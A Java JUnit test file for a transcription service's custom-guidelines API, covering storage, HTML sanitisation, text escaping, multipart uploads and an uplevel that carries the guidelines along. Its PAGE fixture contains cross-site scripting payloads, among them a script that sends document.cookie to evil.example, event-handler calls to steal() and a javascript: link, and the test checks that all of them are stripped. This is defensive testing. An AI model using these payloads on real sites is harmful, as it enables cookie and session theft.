package dev.parlance.guidelines;

import com.sun.net.httpserver.HttpServer;
import dev.parlance.account.Role;
import dev.parlance.support.ApiClient;
import dev.parlance.support.ApiResponse;
import dev.parlance.web.work.WorkApiTestSupport;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * add_custom_guidelines over real HTTP: guidelines from a web page (served here on loopback), a
 * download, a multipart file and text are stored, HTML cleaned before anyone sees it, text escaped;
 * the transcriber's loaded work item shows them beside the instructions; perform_transcription must
 * acknowledge them with custom_special_handling; an uplevel takes them along.
 */
class GuidelinesApiTest extends WorkApiTestSupport {
    private static final String PAGE = """
            <!DOCTYPE html><html><head><title>Style</title><style>p { color: red }</style>
            <script>alert('head')</script></head>
            <body onload="steal()"><h1>House style</h1>
            <p style="color: red" onclick="steal()">Spell <b>Parlance</b> with a capital P.</p>
            <script>document.location = 'https://evil.example/?' + document.cookie</script>
            <img src="https://tracker.example/pixel.gif" onerror="steal()">
            <ul><li>Name every speaker</li><li><a href="/glossary" onclick="steal()">Glossary</a></li>
            <li><a href="javascript:steal()">Not a link</a></li></ul>
            <iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="x"></form>
            </body></html>""";

    private HttpServer remote;
    private final Map<String, Served> served = new ConcurrentHashMap<>();

    private record Served(String contentType, byte[] body) {
    }

    @BeforeEach
    void remote() throws IOException {
        remote = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        remote.createContext("/", exchange -> {
            Served s = served.get(exchange.getRequestURI().getPath());
            if (s == null) {
                exchange.sendResponseHeaders(404, -1);
            } else {
                exchange.getResponseHeaders().set("Content-Type", s.contentType());
                exchange.sendResponseHeaders(200, s.body().length);
                try (OutputStream out = exchange.getResponseBody()) {
                    out.write(s.body());
                }
            }
            exchange.close();
        });
        remote.start();
    }

    @AfterEach
    void stopRemote() {
        remote.stop(0);
    }

    private String serve(String path, String contentType, byte[] body) {
        served.put(path, new Served(contentType, body));
        return "http://127.0.0.1:" + remote.getAddress().getPort() + path;
    }

    @Test
    void aWebPageIsCleanedStoredAndShownToTheTranscriberThenReplacedByText() throws Exception {
        Customer customer = newCustomer();
        String job = reviewingJob(customer, "PREMIUM");
        String pageUrl = serve("/guidelines.html", "text/html; charset=utf-8", PAGE.getBytes(StandardCharsets.UTF_8));

        JsonNode stored = guidelines(customer, job, "guidelines_url", pageUrl, "is_html", "true").ok()
                .path("CUSTOM_GUIDELINES_STORED");
        assertThat(stored.path("full_html").asBoolean()).isTrue();
        JsonNode storage = stored.path("storage_data");
        assertThat(storage.path("path").asString()).startsWith("jobs/" + job + "/guidelines-").endsWith(".html");
        assertThat(storage.path("bucket").asString()).isEqualTo("media");
        assertThat(storage.path("account").asString()).isEqualTo(accountId(customer));
        Path file = DATA_DIR.resolve("media").resolve(storage.path("path").asString());
        String html = Files.readString(file);
        assertThat(storage.path("size").asLong()).isEqualTo(Files.size(file));
        assertThat(html).contains("<h1>House style</h1>", "Spell <b>Parlance</b> with a capital P.", "Name every speaker",
                        "href=\"http://127.0.0.1:" + remote.getAddress().getPort() + "/glossary\"", "rel=\"noopener noreferrer nofollow\"",
                        "target=\"_blank\"")
                .doesNotContain("<script", "alert", "steal", "onload", "onclick", "onerror", "style=", "<style", "<img", "tracker",
                        "<iframe", "<form", "<input", "javascript:", "evil");

        Worker transcriber = newWorker(Role.TRANSCRIBER);
        String item = transcriber.itemOf(job);
        transcriber.post("/work/api/items/" + item + "/claim").ok();
        JsonNode instructions = transcriber.get("/work/api/items/" + item).ok().path("instructions");
        assertThat(instructions.path("guidelines").path("fullHtml").asBoolean()).isTrue();
        assertThat(instructions.path("guidelines").path("html").asString()).isEqualTo(html);
        assertThat(instructions.path("guidance").toString()).contains("customer's guidelines");

        // Replaced by text sent in a form body: stored as given, shown escaped; the page's file is gone.
        JsonNode text = api.postForm("/api/job/add_custom_guidelines", "application/x-www-form-urlencoded",
                        "api_token", customer.token(), "job_id", job,
                        "guidelines_data", "Write <b>numbers</b> as digits & \"units\" in full.\nNo slang.\n\nSpeakers by name.")
                .ok().path("CUSTOM_GUIDELINES_STORED");
        assertThat(text.path("full_html").asBoolean()).isFalse();
        assertThat(text.path("storage_data").path("path").asString()).endsWith(".txt");
        assertThat(file).doesNotExist();
        String shown = transcriber.get("/work/api/items/" + item).ok().path("instructions").path("guidelines").path("html")
                .asString();
        assertThat(shown).startsWith("<p>Write &lt;b&gt;numbers&lt;/b&gt; as digits &amp; ")
                .contains("<br>No slang.</p>", "<p>Speakers by name.</p>").doesNotContain("<b>");

        // A download is text unless its server says HTML; a Windows-1252 file reads as such.
        String download = serve("/style.txt", "text/plain", "Caf\u00e9 names keep their accents.".getBytes(Charset.forName("windows-1252")));
        JsonNode plain = guidelines(customer, job, "guidelines_url", download).ok().path("CUSTOM_GUIDELINES_STORED");
        assertThat(plain.path("full_html").asBoolean()).isFalse();
        assertThat(Files.readString(DATA_DIR.resolve("media").resolve(plain.path("storage_data").path("path").asString())))
                .isEqualTo("Caf\u00e9 names keep their accents.");
        String htmlDownload = serve("/style-page", "text/html", "<p>Only <i>this</i>.</p>".getBytes(StandardCharsets.UTF_8));
        assertThat(guidelines(customer, job, "guidelines_url", htmlDownload).ok().path("CUSTOM_GUIDELINES_STORED")
                .path("full_html").asBoolean()).isTrue();

        // What is not guidelines is refused, and the stored ones stay.
        String scriptsOnly = serve("/scripts", "text/html", "<script>alert(1)</script><style>p{}</style>".getBytes(StandardCharsets.UTF_8));
        assertThat(guidelines(customer, job, "guidelines_url", scriptsOnly, "is_html", "true").error("INVALID_QUERY"))
                .contains("no text");
        assertThat(guidelines(customer, job, "guidelines_url", serve("/missing-then", "text/plain", new byte[0])).error("INVALID_URL"))
                .contains("empty");
        served.remove("/missing-then");
        assertThat(guidelines(customer, job, "guidelines_url", "http://127.0.0.1:" + remote.getAddress().getPort() + "/none")
                .error("INVALID_URL")).contains("404");
        guidelines(customer, job, "guidelines_url", "ftp://example.org/guidelines.txt").error("INVALID_URL");
        assertThat(guidelines(customer, job, "guidelines_data", "   ").error("INVALID_QUERY")).contains("empty");
        assertThat(api.postForm("/api/job/add_custom_guidelines", null, "api_token", customer.token(), "job_id", job,
                "guidelines_data", "x".repeat(1024 * 1024 + 1)).error("INVALID_QUERY")).contains("at most 1048576");
        assertThat(transcriber.get("/work/api/items/" + item).ok().path("instructions").path("guidelines").path("html").asString())
                .isEqualTo("<p>Only <i>this</i>.</p>");
    }

    @Test
    void aFileIsStoredPerformTranscriptionMustAcknowledgeItAndAnUplevelTakesItAlong() throws Exception {
        Customer customer = newCustomer();
        String job = api.get("/api/job/new", "v", "1", "api_token", customer.token(), "job_name", "Guided").ok()
                .path("JobId").asString();
        api.postBytes("/api/job/add_media", "v=1&api_token=" + customer.token() + "&job_id=" + job, "audio/wav",
                Files.readAllBytes(speech)).ok();

        String boundary = "----parlance-test-boundary";
        byte[] text = "\uFEFFSpeaker names in CAPITALS.\r\nNo filler words.\r\n".getBytes(StandardCharsets.UTF_8);
        ApiResponse uploaded = api.postBytes("/api/job/add_custom_guidelines",
                ApiClient.query("api_token", customer.token(), "job_id", job), "multipart/form-data; boundary=" + boundary,
                multipart(boundary, Map.of(), "style.txt", "text/plain", text));
        JsonNode stored = uploaded.ok().path("CUSTOM_GUIDELINES_STORED");
        assertThat(stored.path("full_html").asBoolean()).isFalse();
        String storedText = Files.readString(DATA_DIR.resolve("media").resolve(stored.path("storage_data").path("path").asString()));
        assertThat(storedText).isEqualTo("Speaker names in CAPITALS.\r\nNo filler words.\r\n");
        assertThat(stored.path("storage_data").path("size").asLong()).isEqualTo(storedText.getBytes(StandardCharsets.UTF_8).length);

        // The spec's rule: with guidelines stored, perform_transcription must say custom_special_handling.
        assertThat(transcribe(customer, job, null).error("INVALID_OPTION")).contains("custom_special_handling", "guidelines");
        transcribe(customer, job, "{\"custom_special_handling\": false}").error("INVALID_OPTION");

        // The ways to send guidelines exclude each other; POST takes no URL.
        assertThat(api.postForm("/api/job/add_custom_guidelines?" + ApiClient.query("api_token", customer.token(),
                "job_id", job, "guidelines_url", "https://example.org/g.txt"), null, "guidelines_data", "x").error("INVALID_QUERY"))
                .contains("must not carry guidelines_url");
        api.get("/api/job/add_custom_guidelines", "api_token", customer.token(), "job_id", job).error("MISSING_PARAMETER");
        assertThat(guidelines(customer, job, "guidelines_data", "a", "guidelines_url", "https://example.org/g.txt")
                .error("INVALID_QUERY")).contains("one way only");
        guidelines(newCustomer(), job, "guidelines_data", "theirs").error("ITEM_NOT_FOUND");
        // A multipart text field is guidelines_data.
        assertThat(api.postBytes("/api/job/add_custom_guidelines", ApiClient.query("api_token", customer.token(), "job_id", job),
                        "multipart/form-data; boundary=" + boundary,
                        multipart(boundary, Map.of("guidelines_data", "Speaker names in CAPITALS.\nNo filler words."), null, null, null))
                .ok().path("CUSTOM_GUIDELINES_STORED").path("full_html").asBoolean()).isFalse();

        transcribe(customer, job, "{\"custom_special_handling\": true}").ok();
        awaitStatus(customer, job, "Complete");
        assertThat(info(customer, job).path("Options").path("custom_special_handling").path("setting").asString()).isEqualTo("true");

        // The uplevel's passes follow the same guidelines.
        ApiResponse ordered = api.get("/api/job/uplevel", "api_token", customer.token(), "job_id", job);
        assertThat(ordered.status()).as(ordered.body()).isEqualTo(201);
        String upleveled = ordered.json().path("upleveled_job_id").asString();
        Worker transcriber = newWorker(Role.TRANSCRIBER);
        String item = transcriber.itemOf(upleveled);
        transcriber.post("/work/api/items/" + item + "/claim").ok();
        JsonNode guidelines = transcriber.get("/work/api/items/" + item).ok().path("instructions").path("guidelines");
        assertThat(guidelines.path("fullHtml").asBoolean()).isFalse();
        assertThat(guidelines.path("html").asString()).isEqualTo("<p>Speaker names in CAPITALS.<br>No filler words.</p>");
    }

    private ApiResponse guidelines(Customer customer, String job, String... extra) {
        return onJob("/api/job/add_custom_guidelines", customer, job, extra);
    }

    private ApiResponse transcribe(Customer customer, String job, String options) {
        return options == null
                ? api.get("/api/job/perform_transcription", "v", "1", "api_token", customer.token(), "job_id", job,
                "transcription_fidelity", "MECHANICAL")
                : api.get("/api/job/perform_transcription", "v", "1", "api_token", customer.token(), "job_id", job,
                "transcription_fidelity", "MECHANICAL", "options", options);
    }

    private String accountId(Customer customer) {
        return api.get("/api/account/identity", "api_token", customer.token()).ok().path("AccountId").asString();
    }

    /** A multipart/form-data body with these text fields and, when {@code fileName} is given, a field {@code file}. */
    private static byte[] multipart(String boundary, Map<String, String> fields, String fileName, String fileType, byte[] file)
            throws IOException {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        for (Map.Entry<String, String> field : fields.entrySet()) {
            body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + field.getKey() + "\"\r\n\r\n"
                    + field.getValue() + "\r\n").getBytes(StandardCharsets.UTF_8));
        }
        if (fileName != null) {
            body.write(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
                    + "\"\r\nContent-Type: " + fileType + "\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            body.write(file);
            body.write("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        body.write(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return body.toByteArray();
    }
}
